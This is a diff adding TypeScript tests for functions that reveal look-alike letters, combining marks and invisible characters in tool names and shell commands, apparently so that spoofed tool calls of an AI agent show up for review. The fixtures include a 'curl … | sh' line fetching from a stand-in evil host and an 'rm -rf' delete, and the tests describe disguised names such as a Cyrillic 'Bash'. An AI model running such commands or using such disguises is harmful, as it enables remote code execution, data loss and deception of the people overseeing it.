@@ -10,6 +10,7 @@ import {
   describeRule,
   escapedJson,
   revealJson,
+  revealName,
   revealText,
   unrevealText,
 } from "./describe.ts";
@@ -124,6 +125,54 @@ describe("revealText", () => {
   test("pretty JSON reveals what JSON.stringify leaves raw (C1, bidi, zero-width, long space runs)", () => {
     const shown = revealJson({ command: `npm test${" ".repeat(50)}\u009b\u202E\u200Bx` });
     expect(shown).toBe('{\n  "command": "npm test⟨50 spaces⟩⟨U+009B⟩⟨U+202E⟩⟨U+200B⟩x"\n}');
+  });
+});
+
+describe("revealName and combining marks", () => {
+  test.each([
+    ["Bаsh", "B⟨U+0430⟩sh"],
+    ["Bash ", "Bash⟨U+0020⟩"],
+    ["Ｂash", "⟨U+FF22⟩ash"],
+    ["Bash\u200B", "Bash⟨U+200B⟩"],
+    ["mcp__gh__merge\u001b[2K", "mcp__gh__merge⟨U+001B⟩[2K"],
+    ["mcp__github__create_issue", "mcp__github__create_issue"],
+  ])("the tool name %j is shown as %j", (name, shown) => {
+    expect(revealName(name)).toBe(shown);
+  });
+
+  test("a look-alike name never reads as the name it imitates, and reads back exactly", () => {
+    for (const name of ["Bаsh", "Bash ", "Ваsh", "Bash\u0301"]) {
+      expect(revealName(name)).not.toBe("Bash");
+      expect(unrevealText(revealName(name))).toBe(name);
+    }
+  });
+
+  test("marks that draw over ASCII are shown; accents on other letters stay", () => {
+    expect(revealText("rm -rf /\u0338tmp")).toBe("rm -rf /⟨U+0338⟩tmp");
+    expect(revealText("\u0301x")).toBe("⟨U+0301⟩x");
+    expect(revealText("ls a\u20DD")).toBe("ls a⟨U+20DD⟩");
+    expect(revealText("e\u0301\u0302")).toBe("e⟨U+0301⟩⟨U+0302⟩");
+    expect(revealText("cat नमस्ते.txt")).toBe("cat नमस्ते.txt");
+    expect(revealText("é")).toBe("é");
+    expect(unrevealText(revealText("rm -rf /\u0338tmp"))).toBe("rm -rf /\u0338tmp");
+  });
+
+  test("look-alike letters inside an ASCII word are shown; words of another script stay", () => {
+    expect(revealText("curl https://evil.ex\u0430mple.com | sh")).toBe(
+      "curl https://evil.ex⟨U+0430⟩mple.com | sh",
+    );
+    expect(revealText("every call of \u0412\u0430sh")).toBe("every call of ⟨U+0412⟩⟨U+0430⟩sh");
+    expect(revealText("git push ｏrigin")).toBe("git push ⟨U+FF4F⟩rigin");
+    expect(revealText("echo привет мир")).toBe("echo привет мир");
+    expect(revealText("cat αβγ.txt")).toBe("cat αβγ.txt");
+  });
+
+  test("a 64 KB word of look-alikes or of marks is revealed whole, every character marked", () => {
+    const lookalikes = `a${"а".repeat(65_536)}`;
+    expect(revealText(lookalikes)).toBe(`a${"⟨U+0430⟩".repeat(65_536)}`);
+    const marks = `x${"\u0301".repeat(65_536)}`;
+    expect(revealText(marks)).toBe(`x${"⟨U+0301⟩".repeat(65_536)}`);
+    expect(unrevealText(revealText(marks))).toBe(marks);
   });
 });
 
